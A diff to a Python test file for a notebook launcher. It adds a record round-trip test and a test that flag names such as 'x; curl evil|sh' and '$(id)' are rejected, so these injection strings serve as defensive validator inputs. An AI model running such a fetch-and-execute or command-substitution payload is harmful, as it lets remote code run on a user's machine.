@@ -6,7 +6,7 @@ import json
 import os
 import re
 import secrets
-from dataclasses import replace
+from dataclasses import fields, replace
 from datetime import datetime, timedelta, timezone
 from pathlib import Path
 
@@ -16,6 +16,7 @@ from hypothesis import strategies as st
 
 from notebook_launcher.core.command_result import CommandResult
 from notebook_launcher.core.errors import HostCommandFailed
+from notebook_launcher.core.frozen import complete
 from notebook_launcher.core.package_data import JOB_FILES, job_script
 from notebook_launcher.core.request import Request
 from notebook_launcher.hosts.local import LocalHost
@@ -312,6 +313,32 @@ LATER = st.fixed_dictionaries(
 )
 JOBS = st.text(max_size=9) | st.sampled_from(["7", "7;snowy", "Job <7> is submitted", "9" * 5000])
 WHOLE = {"id": IDS[0], "created": "2026-11-21T01:44:55Z", "scheduler": "slurm", "flags": {}, "log": "/l"}
+
+
+def test_every_field_of_a_record_is_read() -> None:
+    """The type of each is known to what checks it, in whatever way it is written."""
+    values = {
+        "int": 5,
+        "str": "x",
+        "str | None": "x",
+        "datetime": NOW,
+        "tuple[str, ...]": ("a.py",),
+        "Program": "shell",
+    }
+    complete(SessionRecord)
+    whole = SessionRecord(
+        **{one.name: values[str(one.type)] for one in fields(SessionRecord) if one.name != "flags"},
+        flags={"time": "2:00:00", "exclusive": None},
+    )
+    assert record_in(whole.as_json()) == whole
+    optional = {one.name: None for one in fields(SessionRecord) if str(one.type) == "str | None"}
+    assert record_in(replace(whole, **optional).as_json()) == replace(whole, **optional)
+
+
+@pytest.mark.parametrize("name", ["x; curl evil|sh", "--x", "", "a b", "$(id)", "x" * 61])
+def test_a_name_that_no_flag_can_have_is_not_read(name: str) -> None:
+    """The flags are shown as a command to type."""
+    assert record_in(json.dumps({**WHOLE, "flags": {name: "1", "time": "5"}})).flags == {"time": "5"}
 
 
 @settings(deadline=None)
